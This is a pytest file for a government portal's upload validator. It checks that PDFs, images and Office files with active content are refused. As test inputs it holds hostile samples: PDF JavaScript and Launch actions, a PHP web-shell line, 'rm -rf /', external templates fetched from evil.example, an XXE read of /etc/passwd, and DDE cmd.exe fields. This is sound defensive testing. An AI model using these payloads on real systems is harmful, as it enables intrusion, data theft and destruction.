"""What may be uploaded: by content, never by name (NĐ 61/2018 art. 17.1: scans of papers, not programs)."""

import io
import socket
import struct
import threading
import time
import zipfile
from concurrent.futures import ThreadPoolExecutor

import pytest
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from one_stop.citizen_portal import uploads
from one_stop.citizen_portal.uploads import (
	ActiveContent,
	DamagedFile,
	EmptyFile,
	FileTooLarge,
	InfectedFile,
	ProtectedFile,
	ScannerSilent,
	UnknownFileType,
	inspect,
)


def pdf(change=None) -> bytes:
	writer = PdfWriter()
	writer.add_blank_page(595, 842)
	if change:
		change(writer)
	out = io.BytesIO()
	writer.write(out)
	return out.getvalue()


def picture(kind: str = "JPEG", size=(40, 30), **options) -> bytes:
	out = io.BytesIO()
	Image.new("RGB", size, "white").save(out, kind, **options)
	return out.getvalue()


def archive(**entries: bytes) -> bytes:
	out = io.BytesIO()
	with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
		for name, content in entries.items():
			made.writestr(name, content)
	return out.getvalue()


def word(**more: bytes) -> bytes:
	return archive(**{"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>", **more})


def test_a_pdf_of_a_scanner_passes_unchanged():
	content = pdf()
	assert inspect(content, "x.pdf") == uploads.Accepted(content, "pdf", "application/pdf")


@pytest.mark.parametrize("kind", ["JPEG", "PNG", "WEBP", "TIFF", "BMP"])
def test_a_picture_is_drawn_anew_and_named_by_what_it_is(kind: str):
	accepted = inspect(picture(kind), "x.exe")
	assert accepted.extension in ("jpg", "png")
	assert Image.open(io.BytesIO(accepted.content)).size == (40, 30)


def test_nothing_but_pixels_of_a_picture_remains():
	exif = Image.Exif()
	exif[0x010E] = "<script>alert(1)</script>"
	hidden = b"<?php system($_GET[0]);"
	accepted = inspect(picture(exif=exif, comment=hidden) + hidden, "x.jpg")
	assert b"script" not in accepted.content and b"php" not in accepted.content


def _script(writer):
	writer.add_js("app.alert(1)")


def _attachment(writer):
	writer.add_attachment("a.exe", b"MZ")


def _on_page(kind: str):
	def change(writer):
		action = DictionaryObject(
			{NameObject("/S"): NameObject(kind), NameObject("/F"): TextStringObject("x")}
		)
		writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): action})

	return change


@pytest.mark.parametrize(
	"change",
	[
		_script,
		_attachment,
		_on_page("/Launch"),
		_on_page("/SubmitForm"),
		_on_page("/GoToR"),
		_on_page("/ImportData"),
	],
)
def test_a_pdf_with_active_content_is_refused(change):
	with pytest.raises(ActiveContent):
		inspect(pdf(change), "x.pdf")


def _behind_references(writer):
	"""The kind of an action, by way of two references."""
	kind = writer._add_object(NameObject("/Launch"))
	action = DictionaryObject({NameObject("/S"): kind, NameObject("/F"): TextStringObject("x")})
	writer.pages[0][NameObject("/AA")] = writer._add_object(
		DictionaryObject({NameObject("/O"): writer._add_object(action)})
	)


def test_active_content_does_not_hide_behind_references():
	with pytest.raises(ActiveContent):
		inspect(pdf(_behind_references), "x.pdf")


def test_active_content_does_not_hide_behind_escaped_names():
	content = pdf(_on_page("/Launch")).replace(b"/Launch", b"/L#61unch")
	with pytest.raises((ActiveContent, DamagedFile)):
		inspect(content, "x.pdf")


@pytest.mark.parametrize(
	"content",
	[
		b"%PDF-1.7 nothing else",
		pdf()[:200],
		pdf() + archive(a=b"x"),
		pdf() + b"x" * 5000,
		pdf()[:-40] + b"%%EOF",
		b"\x89PNG\r\n\x1a\n broken",
		b"\xff\xd8\xff\xe0 broken",
		word()[:60],
	],
)
def test_what_is_damaged_or_two_things_at_once_is_refused(content: bytes):
	with pytest.raises((DamagedFile, UnknownFileType, ActiveContent)):
		inspect(content, "x.pdf")


def test_a_pdf_behind_a_password_is_refused():
	with pytest.raises(ProtectedFile):
		inspect(pdf(lambda writer: writer.encrypt("secret")), "x.pdf")


@pytest.mark.parametrize(
	"content",
	[
		b"<html><script>alert(1)</script></html>",
		b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
		b"MZ\x90\x00",
		b"\x7fELF",
		b"#!/bin/sh\nrm -rf /",
		b"plain text",
		b"GIF89a<script>alert(1)</script>",
		archive(**{"a.pdf": b"x"}),
	],
)
@pytest.mark.parametrize("name", ["x.pdf", "x.jpg", "x.png"])
def test_a_name_does_not_make_a_picture_or_a_pdf(content: bytes, name: str):
	with pytest.raises(UnknownFileType):
		inspect(content, name)


def test_office_files_pass_without_macros_only():
	assert inspect(word(), "x.docx").extension == "docx"
	assert (
		inspect(archive(**{"mimetype": b"application/vnd.oasis.opendocument.text"}), "x").extension == "odt"
	)
	relation = (
		b'<Relationship Type="x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
	)
	for entry, content in {
		"word/vbaProject.bin": b"x",
		"word/embeddings/oleObject1.bin": b"x",
		"word/activeX/activeX1.xml": b"x",
		"word/_rels/settings.xml.rels": relation,
		"../evil.txt": b"x",
	}.items():
		with pytest.raises(ActiveContent):
			inspect(word(**{entry: content}), "x.docx")


RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"


def relations(row: str, prefix: str = "") -> str:
	name = f"xmlns:{prefix.strip(':')}" if prefix else "xmlns"
	return f'<{prefix}Relationships {name}="{PACKAGE}">{row}</{prefix}Relationships>'


FETCHED = {
	"single quotes": relations(
		f"<Relationship Id='1' Type='{RELATIONS}/attachedTemplate' Target='http://evil.example/t.dotm' TargetMode='External'/>"
	),
	"spaces": relations(
		f'<Relationship Type = "{RELATIONS}/oleObject" Target = "http://evil.example/x" TargetMode\n=\n"External" />'
	),
	"a prefix": relations(
		f'<r:Relationship Type="{RELATIONS}/image" Target="http://evil.example/x" TargetMode="External"/>',
		"r:",
	),
	"references": relations(
		f'<Relationship Type="{RELATIONS}/image" Target="http://evil.example/x" TargetMode="&#69;xternal"/>'
	),
	"a target like a link": relations(
		f'<Relationship Type="{RELATIONS}/attachedTemplate" Target="http://evil.example/hyperlink" TargetMode="External"/>'
	),
	"a link to a share": relations(
		f'<Relationship Type="{RELATIONS}/hyperlink" Target="file://evil.example/share" TargetMode="External"/>'
	),
	"no mode": relations(f'<Relationship Type="{RELATIONS}/image" Target="\\\\evil.example\\share\\x"/>'),
	"an entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + relations("&e;"),
}


@pytest.mark.parametrize("hidden", FETCHED)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
@pytest.mark.parametrize("entry", ["word/_rels/settings.xml.rels", "word/_rels/document.xml.RELS"])
def test_no_office_file_fetches_anything_however_it_is_written(hidden, encoding, entry):
	with pytest.raises(ActiveContent):
		inspect(word(**{entry: FETCHED[hidden].encode(encoding)}), "x.docx")


def test_links_in_an_office_file_may_stay():
	for target in ("https://dichvucong.gov.vn", "mailto:a@example.com"):
		row = f'<Relationship Id="1" Type="{RELATIONS}/hyperlink" Target="{target}" TargetMode="External"/>'
		row += f'<Relationship Id="2" Type="{RELATIONS}/image" Target="media/image1.png"/>'
		content = word(**{"word/_rels/document.xml.rels": relations(row).encode()})
		assert inspect(content, "x.docx").extension == "docx"


def test_relations_that_are_no_xml_are_damaged():
	with pytest.raises(DamagedFile):
		inspect(word(**{"word/_rels/document.xml.rels": b"<Relationships"}), "x.docx")


@pytest.mark.parametrize(
	"inside",
	[
		'<draw:image xlink:href="http://evil.example/x.png"/>',
		"<draw:object xlink:href='//evil.example/x'/>",
		'<script:event-listener script:event-name="dom:load"/>',
	],
)
def test_an_open_document_fetches_and_runs_nothing(inside):
	spaces = "".join(f' xmlns:{name}="urn:{name}"' for name in ("draw", "xlink", "script", "text"))
	body = '<x{0}><text:a xlink:href="https://example.com">x</text:a>{1}</x>'
	kind = b"application/vnd.oasis.opendocument.text"
	assert inspect(archive(mimetype=kind, **{"content.xml": body.format(spaces, "").encode()}), "x")
	with pytest.raises(ActiveContent):
		inspect(archive(mimetype=kind, **{"content.xml": body.format(spaces, inside).encode()}), "x")


def test_two_pictures_are_not_unpacked_at_once(monkeypatch):
	running, most = [], []
	load = Image.Image.thumbnail

	def slow(self, *given, **options):
		running.append(1)
		most.append(len(running))
		time.sleep(0.05)
		load(self, *given, **options)
		running.pop()

	monkeypatch.setattr(Image.Image, "thumbnail", slow)
	with ThreadPoolExecutor(4) as at_once:
		assert all(at_once.map(lambda _each: inspect(picture(), "x.jpg"), range(4)))
	assert max(most) == 1


def test_whoever_waits_too_long_for_a_picture_is_told_so(monkeypatch):
	monkeypatch.setattr(uploads, "SECONDS_TO_WAIT", 0.05)
	with uploads.DECODING, pytest.raises(uploads.TooBusy):
		inspect(picture(), "x.jpg")


def test_a_turned_picture_is_set_upright():
	exif = Image.Exif()
	exif[0x0112] = 6
	accepted = inspect(picture(exif=exif), "x.jpg")
	assert Image.open(io.BytesIO(accepted.content)).size == (30, 40)


def test_an_account_sends_so_many_bytes_a_day(connection, monkeypatch):
	monkeypatch.setattr(connection.local, "request", object(), raising=False)
	connection.db.set_single_value("Citizen Portal Settings", "daily_upload_mb", 1)
	user = f"{connection.generate_hash(length=8)}@example.com"
	monkeypatch.setattr(connection.session, "user", user)
	monkeypatch.setattr(uploads, "audience_of", lambda _user: "citizen")
	content = pdf(lambda writer: writer.add_metadata({"/Keywords": "x" * 300_000}))
	for _each in range(3):
		uploads.accept(content, "x.pdf")
	with pytest.raises(uploads.QuotaUsedUp):
		uploads.accept(content, "x.pdf")
	monkeypatch.setattr(uploads, "audience_of", lambda _user: "staff")
	uploads.accept(content, "x.pdf")


def test_too_much_is_refused(monkeypatch):
	with pytest.raises(EmptyFile):
		inspect(b"", "x.pdf")
	with pytest.raises(FileTooLarge):
		inspect(b"%PDF-" + b"0" * uploads.MOST_BYTES, "x.pdf")
	monkeypatch.setattr(uploads, "MOST_PIXELS", 100)
	with pytest.raises(FileTooLarge):
		inspect(picture(), "x.jpg")
	monkeypatch.setattr(uploads, "MOST_UNPACKED", 10)
	with pytest.raises(FileTooLarge):
		inspect(word(), "x.docx")


def test_the_desk_may_also_import_text():
	assert inspect(b"a,b\n1,2\n", "x.csv", text_too=True).content_type == "text/csv"
	with pytest.raises(UnknownFileType):
		inspect(b"<script>", "x.csv", text_too=True)
	with pytest.raises(UnknownFileType):
		inspect(b"a,b", "x.html", text_too=True)


@pytest.fixture
def scanner():
	"""A stand-in for clamd that speaks INSTREAM and finds EICAR."""
	server = socket.create_server(("127.0.0.1", 0))

	def serve():
		while True:
			try:
				connection, _address = server.accept()
			except OSError:
				return
			with connection, connection.makefile("rb") as stream:
				assert stream.read(10) == b"zINSTREAM\0"
				content = b""
				while size := struct.unpack("!I", stream.read(4))[0]:
					content += stream.read(size)
				found = b"EICAR" in content
				connection.sendall(b"stream: Eicar-Signature FOUND\0" if found else b"stream: OK\0")

	threading.Thread(target=serve, daemon=True).start()
	yield f"tcp:127.0.0.1:{server.getsockname()[1]}"
	server.close()


def test_the_virus_scanner_has_the_last_word(scanner):
	uploads.scan(b"clean" * 50_000, "x.pdf", scanner)
	with pytest.raises(InfectedFile):
		uploads.scan(b"...EICAR...", "x.pdf", scanner)


def test_without_an_answer_of_the_scanner_nothing_is_taken():
	with pytest.raises(ScannerSilent):
		uploads.scan(b"x", "x.pdf", "tcp:127.0.0.1:9")


def upload(caller, token: str, content: bytes, name: str, private: int = 1, **more):
	return caller.post(
		"/api/method/upload_file",
		{"is_private": private, **more},
		files={"file": (name, content)},
		headers={"X-Frappe-CSRF-Token": token, "Accept": "application/json"},
	)


def test_the_desk_cannot_upload_what_is_refused(officer):
	token = officer.token("/app")
	for content, name in (
		(b"<html><script>alert(1)</script></html>", "x.html"),
		(b"<svg onload=alert(1)>", "x.svg"),
		(b"<script>", "x.pdf"),
		(pdf(_script), "x.pdf"),
	):
		assert upload(officer, token, content, name).status_code == 417, name
	assert upload(officer, token, pdf(), "x.pdf", private=0).status_code == 417
	assert upload(officer, token, pdf(), "../../../../tmp/x.pdf").status_code == 200


def test_nobody_reaches_a_private_file_by_naming_its_address(officer, administrator, base_url, connection):
	secret = connection.get_doc(
		{"doctype": "File", "file_name": "secret.txt", "is_private": 1, "content": "secret-1"}
	)
	secret.insert()
	connection.db.commit()
	token = officer.token("/app")
	for path, data in (
		("/api/method/upload_file", {"file_url": secret.file_url, "is_private": 1}),
		("/api/resource/File", {"file_url": secret.file_url, "is_private": 1}),
		("/api/method/upload_file", {"file_url": "http://127.0.0.1:1/x", "is_private": 1}),
	):
		answer = officer.post(
			path, data, headers={"X-Frappe-CSRF-Token": token, "Accept": "application/json"}
		)
		assert answer.status_code in (403, 404, 417), answer.text[:300]
	assert officer.get(secret.file_url).status_code == 403


WORD = 'xmlns:q="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
STARTED = {
	"a field": f"<q:w {WORD}><q:instrText> DDEAUTO c:\\cmd.exe </q:instrText></q:w>",
	"a field in pieces": f"<q:w {WORD}><q:fldChar/><q:instrText>DD</q:instrText><q:instrText>E cmd</q:instrText></q:w>",
	"a simple field": f'<q:w {WORD}><q:fldSimple q:instr="DDE cmd"/></q:w>',
	"a name made of numbers": f"<q:w {WORD}><q:instrText>QUOTE 68 68 69</q:instrText></q:w>",
	"a text from elsewhere": f'<q:w {WORD}><q:instrText>INCLUDETEXT "c:\\a.docx"</q:instrText></q:w>',
}


@pytest.mark.parametrize("hidden", STARTED)
@pytest.mark.parametrize("entry", ["word/document.xml", "word/header1.xml"])
def test_no_field_of_a_text_starts_or_fetches_anything(hidden, entry):
	with pytest.raises(ActiveContent):
		inspect(word(**{entry: STARTED[hidden].encode()}), "x.docx")


def test_ordinary_fields_and_words_of_a_text_pass():
	text = (
		f"<q:w {WORD}><q:fldChar/><q:instrText> PAGE </q:instrText><q:fldChar/><q:t>LINK, DDE và QUOTE</q:t>"
		f'<q:fldChar/><q:instrText> HYPERLINK "https://x.example" </q:instrText></q:w>'
	)
	assert inspect(word(**{"word/document.xml": text.encode()}), "x.docx").extension == "docx"


@pytest.mark.parametrize("element", ["ddeLink", "oleLink"])
def test_no_table_starts_a_program(element):
	book = archive(
		**{
			"[Content_Types].xml": b"<Types/>",
			"xl/workbook.xml": b"<w/>",
			"xl/externalLinks/externalLink1.xml": f'<e><{element} ddeService="cmd" ddeTopic="/c calc"/></e>'.encode(),
		}
	)
	with pytest.raises(ActiveContent):
		inspect(book, "x.xlsx")
